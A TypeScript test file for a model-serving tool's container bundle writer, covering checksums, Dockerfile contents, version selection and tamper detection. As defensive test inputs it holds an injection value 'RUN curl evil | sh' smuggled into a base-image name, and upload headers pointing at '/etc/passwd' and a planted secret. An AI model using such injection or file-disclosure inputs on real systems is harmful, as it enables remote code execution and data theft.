// The container bundle (src/deploy/bundle.ts) on a real registry in a temp dir, filled from a real
// model repository: the files and their content, SHA256SUMS checked by hand and by sha256sum, the
// Dockerfile, the models folder as a repository the server scans, a real server started on the
// bundle's config, version selection (explicit, aliases, deployment, latest), byte-identical
// bundles, refusal to overwrite, a tampered registry artifact that stops the bundle, and a path a
// client sent with an upload (X-Scoreline-Source) that is recorded but never read.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { test } from 'node:test';
import YAML from 'yaml';
import { serveConfig } from '../src/cli.js';
import { resolveConfig } from '../src/config.js';
import { writeBundle, type BundleOptions, type BundleResult } from '../src/deploy/bundle.js';
import type { ScorelineError } from '../src/errors.js';
import { scanRepository } from '../src/registry/repository.js';
import { ModelRegistry } from '../src/registry/store.js';
import { SqliteRegistry } from '../src/store/index.js';
import { CLI, request, startServer } from './e2e/server.js';
import { TINY_LOGISTIC_FEATURES, TINY_LOGISTIC_MODEL, writeLogisticModel, writeSumModel, type LogisticFixture } from './fixtures/models.js';
import { clock } from './fixtures/registry.js';

const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
const MODEL_YAML = { features: TINY_LOGISTIC_FEATURES, reference: 'reference.csv', label: 'default', batching: { maxBatchSize: 16 } };
const REFERENCE_CSV = 'f0,f1,f2,default\n1,10,0,0\n3,15,1,1\n-1,5,-1,0\n';

interface Env {
  dir: string;
  registry: ModelRegistry;
  credit: LogisticFixture[];
  out: (name: string) => string;
  bundle: (options: Partial<BundleOptions> & { out: string }) => Promise<BundleResult>;
}

/** A registry with `credit` v1, v2 imported from a repository (model.yaml + reference CSV) and `sum` v1-3 registered directly. */
async function withEnv(fn: (env: Env) => Promise<void>): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'scoreline-bundle-'));
  const repo = join(dir, 'repo');
  const credit = [
    await writeLogisticModel(repo, 'credit', 1, { modelYaml: MODEL_YAML, featureNames: TINY_LOGISTIC_FEATURES }),
    await writeLogisticModel(repo, 'credit', 2, {
      modelYaml: MODEL_YAML,
      featureNames: TINY_LOGISTIC_FEATURES,
      model: { ...TINY_LOGISTIC_MODEL, weights: [0.5, -0.2, 2], intercept: 0.1 },
    }),
  ];
  writeFileSync(join(repo, 'credit', 'reference.csv'), REFERENCE_CSV);
  const registry = ModelRegistry.open(join(dir, 'data'), { now: clock() });
  try {
    const imported = registry.importRepository(scanRepository(repo));
    assert.deepEqual(
      imported.imported.map((r) => r.version),
      [1, 2],
    );
    for (const v of [1, 2, 3]) {
      const bytes = (await writeSumModel(join(dir, 'scratch'), 'sum', v)).bytes;
      registry.register('sum', bytes, { config: { features: ['a', 'b', 'c', 'd'], reference: 'sum-ref.csv', label: 'y' } });
    }
    await fn({
      dir,
      registry,
      credit,
      out: (name) => join(dir, 'out', name),
      bundle: (options) => writeBundle({ registry: new SqliteRegistry(registry), model: 'credit', ...options }),
    });
  } finally {
    registry.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

async function rejects(fn: () => unknown, code: string, message?: RegExp): Promise<ScorelineError> {
  try {
    await fn();
  } catch (e) {
    const err = e as ScorelineError;
    assert.equal(err.code, code, err.message);
    if (message) assert.match(err.message, message);
    return err;
  }
  assert.fail(`expected ${code}`);
}

/** Every file under dir, relative and '/'-separated, with its bytes. */
function tree(dir: string): Map<string, Buffer> {
  const out = new Map<string, Buffer>();
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, e.name);
      if (e.isDirectory()) walk(p);
      else out.set(relative(dir, p).split('\\').join('/'), readFileSync(p));
    }
  };
  walk(dir);
  return new Map([...out.entries()].sort(([a], [b]) => (a < b ? -1 : 1)));
}

/** Dockerfile instructions as [op, rest], comments and continuations handled. */
function instructions(text: string): [string, string][] {
  return text
    .replace(/\\\n/g, ' ')
    .split('\n')
    .map((l) => l.trim())
    .filter((l) => l && !l.startsWith('#'))
    .map((l) => {
      const i = l.indexOf(' ');
      return [l.slice(0, i), l.slice(i + 1).trim()];
    });
}

test('a bundle holds the verified artifacts, model.yaml, reference data, config, SHA256SUMS, Dockerfile and README', async () => {
  await withEnv(async (env) => {
    const out = env.out('b');
    const umask = process.umask(0o077); // a restrictive umask must not leak into the bundle's modes
    let result: BundleResult;
    try {
      result = await env.bundle({ versions: ['1', 'credit@2'], out });
    } finally {
      process.umask(umask);
    }
    assert.equal(result.dir, out);
    assert.equal(result.selectedBy, 'explicit');
    assert.deepEqual(result.warnings, []);
    assert.deepEqual(result.files, [
      'Dockerfile',
      'README.md',
      'SHA256SUMS',
      'config.yaml',
      'models/credit/1/model.onnx',
      'models/credit/2/model.onnx',
      'models/credit/model.yaml',
      'models/credit/reference.csv',
    ]);
    assert.deepEqual([...tree(out).keys()], result.files);
    assert.deepEqual(
      result.versions,
      env.credit.map((f) => ({ version: f.version, sha256: sha(f.bytes), size: f.bytes.length })),
    );
    for (const f of env.credit) {
      assert.deepEqual(readFileSync(join(out, 'models', 'credit', String(f.version), 'model.onnx')), Buffer.from(f.bytes));
      assert.equal(env.registry.getVersion('credit', f.version).sha256, sha(f.bytes));
    }
    const modelYaml = readFileSync(join(out, 'models/credit/model.yaml'), 'utf8');
    assert.match(modelYaml, /^# model\.yaml of 'credit' \(versions 1, 2\), from the scoreline registry\n/);
    assert.deepEqual(YAML.parse(modelYaml), MODEL_YAML);
    assert.deepEqual(YAML.parse(modelYaml), env.registry.getVersion('credit', 2).config);
    assert.equal(readFileSync(join(out, 'models/credit/reference.csv'), 'utf8'), REFERENCE_CSV);

    const readme = readFileSync(join(out, 'README.md'), 'utf8');
    for (const v of result.versions) assert.ok(readme.includes(`| ${v.version} | \`${v.sha256}\` | ${v.size} |`));
    assert.match(readme, /docker build -t scoreline-credit:1-2 \./);
    assert.match(readme, /docker run --rm -p 8080:8080 -v scoreline-data:\/data scoreline-credit:1-2/);
    assert.match(readme, /sha256sum -c SHA256SUMS/);

    // World-readable files and folders whatever the umask, for the image's non-root user.
    for (const f of result.files) assert.equal(statSync(join(out, f)).mode & 0o777, 0o644, f);
    for (const d of ['models', 'models/credit', 'models/credit/1']) assert.equal(statSync(join(out, d)).mode & 0o777, 0o755, d);
  });
});

test('SHA256SUMS lists every payload file with its sha256, and sha256sum -c agrees', async () => {
  await withEnv(async (env) => {
    const out = env.out('sums');
    const result = await env.bundle({ versions: ['1', '2'], out });
    const text = readFileSync(join(out, 'SHA256SUMS'), 'utf8');
    const lines = text
      .trimEnd()
      .split('\n')
      .map((l) => /^([0-9a-f]{64}) {2}(\S+)$/.exec(l));
    assert.ok(
      lines.every((m) => m !== null),
      'sha256sum text format: hash, two spaces, relative path',
    );
    const listed = lines.map((m) => m![2]!);
    assert.deepEqual(listed, result.files.filter((f) => f.startsWith('models/') || f === 'config.yaml').sort());
    for (const m of lines) assert.equal(m![1], sha(readFileSync(join(out, m![2]!))), m![2]);
    // The artifacts' hashes are the registry's.
    for (const v of result.versions) assert.ok(text.includes(`${v.sha256}  models/credit/${v.version}/model.onnx\n`));

    if (spawnSync('sha256sum', ['--version']).error) return;
    const check = () => spawnSync('sha256sum', ['-c', '--strict', 'SHA256SUMS'], { cwd: out, encoding: 'utf8' });
    const ok = check();
    assert.equal(ok.status, 0, ok.stdout + ok.stderr);
    assert.equal(ok.stdout.match(/: OK$/gm)?.length, listed.length);
    writeFileSync(join(out, 'config.yaml'), `${readFileSync(join(out, 'config.yaml'), 'utf8')}# edited\n`);
    assert.notEqual(check().status, 0, 'a file changed after bundling fails the check');
  });
});

test('the Dockerfile builds on the base image, copies and verifies the payload, runs as node and serves the bundle', async () => {
  await withEnv(async (env) => {
    const out = env.out('docker');
    await env.bundle({ versions: ['2'], out });
    const text = readFileSync(join(out, 'Dockerfile'), 'utf8');
    assert.match(text, /^# Model bundle written by `scoreline bundle`: model 'credit', version 2\./);
    const ins = instructions(text);
    const of = (op: string) => ins.filter(([o]) => o === op).map(([, rest]) => rest);
    assert.deepEqual(
      ins.map(([op]) => op),
      ['FROM', 'COPY', 'COPY', 'RUN', 'USER', 'CMD'],
    );
    assert.deepEqual(of('FROM'), ['scoreline:0.1.0']);
    assert.deepEqual(of('USER'), ['node']);
    const cmd = JSON.parse(of('CMD')[0]!) as string[];
    assert.deepEqual(cmd, ['serve', '--config', '/app/bundle/config.yaml', '--model-repo', '/app/bundle/models']);
    assert.deepEqual(of('RUN'), ['cd /app/bundle && sha256sum -c --quiet SHA256SUMS']);

    // Every COPY source exists, and what lands in /app/bundle is exactly SHA256SUMS plus the files it lists.
    const inImage: string[] = [];
    for (const copy of of('COPY')) {
      const parts = copy.split(/\s+/);
      const dest = parts.at(-1)!;
      for (const src of parts.slice(0, -1)) {
        assert.ok(existsSync(join(out, src)), `COPY source ${src}`);
        const target = dest.endsWith('/') ? `${dest}${src}` : dest;
        const files = statSync(join(out, src)).isDirectory() ? [...tree(join(out, src)).keys()].map((f) => `${target}/${f}`) : [target];
        inImage.push(...files);
      }
    }
    const sums = readFileSync(join(out, 'SHA256SUMS'), 'utf8')
      .trimEnd()
      .split('\n')
      .map((l) => `/app/bundle/${l.slice(66)}`);
    assert.deepEqual(inImage.sort(), [...sums, '/app/bundle/SHA256SUMS'].sort());

    // The CMD is a valid serve command line once /app/bundle is this folder.
    const local = cmd.slice(1).map((a) => a.replace('/app/bundle', out));
    const config = serveConfig(local);
    assert.ok(config);
    assert.equal(config.modelRepository, join(out, 'models'));
    assert.equal(config.dataDir, '/data');
    assert.equal(config.server.port, 8080);

    const custom = env.out('custom');
    await env.bundle({ versions: ['2'], out: custom, baseImage: `registry.example.com/ml/scoreline:0.1.0@sha256:${'a'.repeat(64)}` });
    assert.match(readFileSync(join(custom, 'Dockerfile'), 'utf8'), /^FROM registry\.example\.com\/ml\/scoreline:0\.1\.0@sha256:a{64}$/m);
    await rejects(
      () => env.bundle({ versions: ['2'], out: env.out('evil'), baseImage: 'scoreline\nRUN curl evil | sh' }),
      'BAD_REQUEST',
      /not a container image reference/,
    );
    assert.equal(existsSync(env.out('evil')), false);
  });
});

test('the models folder is a repository the server scans, and the config validates', async () => {
  await withEnv(async (env) => {
    const out = env.out('repo');
    const result = await env.bundle({ versions: ['1', '2'], out });
    const scan = scanRepository(join(out, 'models'));
    assert.deepEqual(scan.skipped, []);
    assert.deepEqual(
      scan.models.map((m) => m.name),
      ['credit'],
    );
    const credit = scan.models[0]!;
    assert.deepEqual(
      credit.versions.map((v) => ({ version: v.version, sha256: v.sha256, size: v.size })),
      result.versions,
    );
    assert.deepEqual(credit.config, MODEL_YAML);

    const raw = YAML.parse(readFileSync(join(out, 'config.yaml'), 'utf8'));
    assert.deepEqual(raw, { modelRepository: 'models', dataDir: '/data' });
    resolveConfig(raw, 'config.yaml');
    // Relative to the config file: the folder serves itself without Docker too.
    const config = serveConfig(['--config', join(out, 'config.yaml'), '--data-dir', join(env.dir, 'local-data')]);
    assert.equal(config?.modelRepository, join(out, 'models'));

    // Server settings given to the bundle are validated and written as given, not as resolved defaults.
    const tuned = env.out('tuned');
    await env.bundle({ versions: ['1'], out: tuned, serverConfig: { batching: { maxBatchSize: 32 }, log: { level: 'warn' } } });
    assert.deepEqual(YAML.parse(readFileSync(join(tuned, 'config.yaml'), 'utf8')), {
      modelRepository: 'models',
      dataDir: '/data',
      batching: { maxBatchSize: 32 },
      log: { level: 'warn' },
    });
    await rejects(
      () => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { server: { port: 70000 } } }),
      'CONFIG_INVALID',
      /server\.port/,
    );
    await rejects(
      () => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { dataDir: '/elsewhere' } }),
      'BAD_REQUEST',
      /dataDir/,
    );
    await rejects(
      () => env.bundle({ versions: ['1'], out: env.out('bad-config'), serverConfig: { features: { definitions: 'f.yaml' } } }),
      'BAD_REQUEST',
      /features\.definitions/,
    );
    assert.equal(existsSync(env.out('bad-config')), false);
  });
});

test("a real server started on the bundle's config serves the bundled versions", async () => {
  await withEnv(async (env) => {
    const out = env.out('serve');
    await env.bundle({ versions: ['1', '2'], out });
    const server = await startServer(['--config', join(out, 'config.yaml'), '--data-dir', join(env.dir, 'serve-data')]);
    try {
      for (const f of env.credit) {
        const r = await request(`${server.url}/v2/models/credit/versions/${f.version}/infer`, { json: { inputs: f.example.inputs } });
        assert.equal(r.status, 200, r.text);
        assert.equal(r.body.model_version, String(f.version));
        const probabilities = (r.body.outputs as { name: string; data: number[] }[]).find((o) => o.name === 'probabilities')!.data;
        const expected = f.example.outputs.find((o) => o.name === 'probabilities')!.data as number[];
        probabilities.forEach((p, i) => {
          assert.ok(Math.abs(p - expected[i]!) < 1e-6, `v${f.version}[${i}]: ${p} vs ${expected[i]}`);
        });
      }
    } finally {
      assert.equal(await server.stop(), 0);
    }
  });
});

test('default versions: every version the deployment routes to, else the latest', async () => {
  await withEnv(async (env) => {
    const latest = await env.bundle({ out: env.out('latest') });
    assert.equal(latest.selectedBy, 'latest');
    assert.deepEqual(
      latest.versions.map((v) => v.version),
      [2],
    );

    env.registry.saveDeployment('credit', { strategy: 'canary', stable: 1, canary: 2, percent: 10 }, { action: 'deploy' });
    const canary = await env.bundle({ out: env.out('canary') });
    assert.equal(canary.selectedBy, 'deployment');
    assert.deepEqual(
      canary.versions.map((v) => v.version),
      [1, 2],
    );

    // A deployer that wraps the strategy with its runtime state is understood too.
    env.registry.saveDeployment('credit', { strategy: { strategy: 'direct', version: 1 }, step: 0, since: 'x' }, { action: 'deploy' });
    assert.deepEqual(
      (await env.bundle({ out: env.out('direct') })).versions.map((v) => v.version),
      [1],
    );
    env.registry.saveDeployment(
      'credit',
      {
        strategy: 'ab',
        variants: [
          { name: 'a', version: 2, weight: 50 },
          { name: 'b', version: 1, weight: 50 },
          { name: 'c', version: 2, weight: 0 },
        ],
      },
      { action: 'deploy' },
    );
    assert.deepEqual(
      (await env.bundle({ out: env.out('ab') })).versions.map((v) => v.version),
      [1, 2],
    );

    env.registry.saveDeployment('credit', { something: 'else' }, { action: 'deploy' });
    await rejects(() => env.bundle({ out: env.out('unknown') }), 'BAD_REQUEST', /name the versions to bundle/);
    // Explicit versions do not need the deployment.
    assert.deepEqual(
      (await env.bundle({ versions: ['latest'], out: env.out('explicit') })).versions.map((v) => v.version),
      [2],
    );
  });
});

test('versions by alias and latest; bad references are refused before anything is written', async () => {
  await withEnv(async (env) => {
    env.registry.setAlias('sum', 'champion', 2);
    const r = await writeBundle({
      registry: new SqliteRegistry(env.registry),
      model: 'sum',
      versions: ['champion', 'sum@latest', '2'],
      out: env.out('sum'),
    });
    assert.deepEqual(
      r.versions.map((v) => v.version),
      [2, 3],
    );
    // No reference CSV anywhere for versions registered from bytes: the bundle says so and leaves the keys out.
    assert.equal(r.warnings.length, 1);
    assert.match(r.warnings[0]!, /reference data 'sum-ref\.csv'/);
    assert.deepEqual(YAML.parse(readFileSync(join(env.out('sum'), 'models/sum/model.yaml'), 'utf8')), { features: ['a', 'b', 'c', 'd'] });
    assert.match(
      readFileSync(join(env.out('sum'), 'README.md'), 'utf8'),
      /## Warnings\n\n- model\.yaml names the reference data 'sum-ref\.csv'/,
    );
    assert.deepEqual(
      scanRepository(join(env.out('sum'), 'models')).models[0]!.versions.map((v) => v.version),
      [2, 3],
    );

    await rejects(() => env.bundle({ versions: ['sum@1'], out: env.out('x') }), 'BAD_REQUEST', /names model 'sum'/);
    await rejects(() => env.bundle({ versions: ['9'], out: env.out('x') }), 'VERSION_NOT_FOUND');
    await rejects(() => env.bundle({ versions: ['nope'], out: env.out('x') }), 'ALIAS_NOT_FOUND');
    await rejects(() => env.bundle({ versions: ['credit@'], out: env.out('x') }), 'BAD_REQUEST');
    await rejects(() => env.bundle({ versions: [], out: env.out('x') }), 'BAD_REQUEST');
    await rejects(() => writeBundle({ registry: new SqliteRegistry(env.registry), model: 'ghost', out: env.out('x') }), 'MODEL_NOT_FOUND');
    assert.equal(existsSync(env.out('x')), false);
  });
});

test('versions with different model.yaml settings cannot share a bundle', async () => {
  await withEnv(async (env) => {
    const scratch = join(env.dir, 'mixed');
    env.registry.register('mixed', (await writeSumModel(scratch, 'm', 1)).bytes, { config: { batching: { maxBatchSize: 8 } } });
    env.registry.register('mixed', (await writeSumModel(scratch, 'm', 2)).bytes, { config: { batching: { maxBatchSize: 16 } } });
    await rejects(
      () => writeBundle({ registry: new SqliteRegistry(env.registry), model: 'mixed', versions: ['1', '2'], out: env.out('mixed') }),
      'CONFLICT',
      /versions 1 and 2 of model 'mixed' have different model\.yaml settings/,
    );
    assert.equal(existsSync(env.out('mixed')), false);
    assert.equal(
      (await writeBundle({ registry: new SqliteRegistry(env.registry), model: 'mixed', versions: ['2'], out: env.out('mixed') })).versions
        .length,
      1,
    );
  });
});

test('two bundles of the same versions are byte-identical, also from a reopened registry', async () => {
  await withEnv(async (env) => {
    await env.bundle({ versions: ['1', '2'], out: env.out('one') });
    const reopened = ModelRegistry.open(join(env.dir, 'data'));
    try {
      await writeBundle({ registry: new SqliteRegistry(reopened), model: 'credit', versions: ['2', '1', '2'], out: env.out('two') });
    } finally {
      reopened.close();
    }
    const [a, b] = [tree(env.out('one')), tree(env.out('two'))];
    assert.deepEqual([...a.keys()], [...b.keys()]);
    for (const [path, bytes] of a) assert.ok(bytes.equals(b.get(path)!), `${path} differs`);
    assert.doesNotMatch([...a.values()].map((x) => x.toString('latin1')).join(''), /20\d\d-\d\d-\d\dT/, 'no timestamps');
  });
});

test('a non-empty folder is refused unless forced; force replaces the previous bundle, stale versions included', async () => {
  await withEnv(async (env) => {
    const out = env.out('reuse');
    mkdirSync(out, { recursive: true });
    writeFileSync(join(out, 'notes.txt'), 'mine');
    await rejects(() => env.bundle({ versions: ['1'], out }), 'CONFLICT', /is not empty/);
    assert.deepEqual(readdirSync(out), ['notes.txt']);

    rmSync(join(out, 'notes.txt'));
    await env.bundle({ versions: ['1', '2'], out });
    await rejects(() => env.bundle({ versions: ['2'], out }), 'CONFLICT');
    writeFileSync(join(out, 'notes.txt'), 'mine');
    const second = await env.bundle({ versions: ['2'], out, force: true });
    assert.equal(existsSync(join(out, 'models', 'credit', '1')), false, 'the old version is gone');
    assert.deepEqual(
      [...tree(out).keys()].filter((f) => f !== 'notes.txt'),
      second.files,
    );
    assert.equal(readFileSync(join(out, 'notes.txt'), 'utf8'), 'mine', "files that are not the bundle's are left alone");
    assert.deepEqual(
      scanRepository(join(out, 'models')).models[0]!.versions.map((v) => v.version),
      [2],
    );

    writeFileSync(join(env.dir, 'a-file'), '');
    await rejects(() => env.bundle({ versions: ['2'], out: join(env.dir, 'a-file') }), 'CONFLICT', /not a folder/);
  });
});

test('a tampered artifact in the registry stops the bundle with the tamper error and writes nothing', async () => {
  await withEnv(async (env) => {
    const { sha256 } = env.registry.getVersion('credit', 2);
    const path = env.registry.artifacts.path(sha256);
    chmodSync(path, 0o644);
    const bytes = readFileSync(path);
    bytes[bytes.length - 1]! ^= 0xff;
    writeFileSync(path, bytes);

    const out = env.out('tampered');
    await rejects(
      () => env.bundle({ versions: ['1', '2'], out }),
      'ARTIFACT_TAMPERED',
      new RegExp(`artifact ${sha256} was modified on disk`),
    );
    assert.equal(existsSync(out), false, 'no half bundle');
    assert.equal(env.registry.counters().tamperedRefusals, 1);
    // The intact version still bundles.
    assert.deepEqual(
      (await env.bundle({ versions: ['1'], out })).versions.map((v) => v.version),
      [1],
    );
  });
});

test('reference rows come from the registry, never from a path recorded with a version', async () => {
  await withEnv(async (env) => {
    // A reference.csv next to the path a version says it was registered from; the registry holds none for it.
    const elsewhere = join(env.dir, 'elsewhere');
    mkdirSync(join(elsewhere, '7'), { recursive: true });
    writeFileSync(join(elsewhere, 'reference.csv'), 'f0,f1,f2,default\n666,666,666,1\n');
    const bytes = (await writeLogisticModel(join(env.dir, 'scratch'), 'x', 1, { model: { ...TINY_LOGISTIC_MODEL, intercept: 3 } })).bytes;
    env.registry.register('other', bytes, { source: join(elsewhere, '7', 'model.onnx'), config: MODEL_YAML });
    const r = await writeBundle({ registry: new SqliteRegistry(env.registry), model: 'other', out: env.out('other') });
    assert.equal(r.files.includes('models/other/reference.csv'), false);
    assert.match(r.warnings[0]!, /reference data 'reference\.csv', which the registry does not hold/);

    // The stored rows are what the bundle carries, even after the repository's file changed.
    writeFileSync(join(env.dir, 'repo', 'credit', 'reference.csv'), 'f0,f1,f2,default\n9,9,9,0\n');
    await env.bundle({ versions: ['1'], out: env.out('stored') });
    assert.equal(readFileSync(join(env.out('stored'), 'models/credit/reference.csv'), 'utf8'), REFERENCE_CSV);
  });
});

test("a bundle of versions uploaded with X-Scoreline-Source holds the registry's bytes, never the file the header names", async () => {
  const dir = mkdtempSync(join(tmpdir(), 'scoreline-bundle-upload-'));
  const repo = join(dir, 'repo');
  const data = join(dir, 'data');
  await writeLogisticModel(repo, 'credit', 1, { modelYaml: MODEL_YAML, featureNames: TINY_LOGISTIC_FEATURES });
  writeFileSync(join(repo, 'credit', 'reference.csv'), REFERENCE_CSV);
  // A secret on the server's disk, where the header's path would lead a reference lookup.
  const SECRET = 'f0,f1,f2,default\nSECRET-4f1c9e,0,0,0\n';
  mkdirSync(join(dir, 'secret', '1'), { recursive: true });
  writeFileSync(join(dir, 'secret', 'reference.csv'), SECRET);
  const server = await startServer(['--model-repo', repo, '--data-dir', data]);
  try {
    const token = readFileSync(join(data, 'admin-token'), 'utf8').trim();
    const uploads = new Map<number, Uint8Array>();
    for (const [k, declared] of [
      [2, join(dir, 'secret', '1', 'model.onnx')],
      [3, '/etc/passwd'],
    ] as const) {
      const bytes = (
        await writeLogisticModel(join(dir, 'scratch'), 'credit', k, {
          featureNames: TINY_LOGISTIC_FEATURES,
          model: { ...TINY_LOGISTIC_MODEL, intercept: k },
        })
      ).bytes;
      const r = await request(`${server.url}/admin/models/credit/versions`, {
        method: 'POST',
        body: bytes,
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream', 'x-scoreline-source': declared },
      });
      assert.equal(r.status, 201, r.text);
      assert.equal(r.body.version, k);
      uploads.set(k, bytes);
    }
    const out = join(dir, 'bundle');
    const cli = spawnSync(
      process.execPath,
      [CLI, 'bundle', '--data-dir', data, '--model', 'credit', '--version', '2', '--version', '3', '--out', out],
      { encoding: 'utf8' },
    );
    assert.equal(cli.status, 0, cli.stderr);
    const files = tree(out);
    assert.deepEqual(
      [...files.keys()],
      [
        'Dockerfile',
        'README.md',
        'SHA256SUMS',
        'config.yaml',
        'models/credit/2/model.onnx',
        'models/credit/3/model.onnx',
        'models/credit/model.yaml',
        'models/credit/reference.csv',
      ],
    );
    for (const [k, bytes] of uploads)
      assert.ok(files.get(`models/credit/${k}/model.onnx`)!.equals(Buffer.from(bytes)), `v${k} is the uploaded artifact`);
    // The reference rows are the ones the registry stored from the repository, which the uploads inherited with its model.yaml.
    assert.equal(files.get('models/credit/reference.csv')!.toString(), REFERENCE_CSV);
    const passwd = readFileSync('/etc/passwd');
    for (const [path, bytes] of files) {
      assert.ok(!bytes.includes('SECRET-4f1c9e'), `${path} holds the secret`);
      assert.ok(!bytes.includes(passwd), `${path} holds /etc/passwd`);
    }
    // The header is kept as what the client said, apart from the source of a version the registry read itself.
    const show = await request(`${server.url}/admin/models/credit`, { headers: { authorization: `Bearer ${token}` } });
    const lineage = Object.fromEntries(show.body.versions.map((v: { version: number; lineage: unknown }) => [v.version, v.lineage]));
    assert.deepEqual(lineage, {
      1: { source: join(repo, 'credit', '1', 'model.onnx') },
      2: { declaredSource: join(dir, 'secret', '1', 'model.onnx') },
      3: { declaredSource: '/etc/passwd' },
    });
  } finally {
    assert.equal(await server.stop(), 0);
    rmSync(dir, { recursive: true, force: true });
  }
});
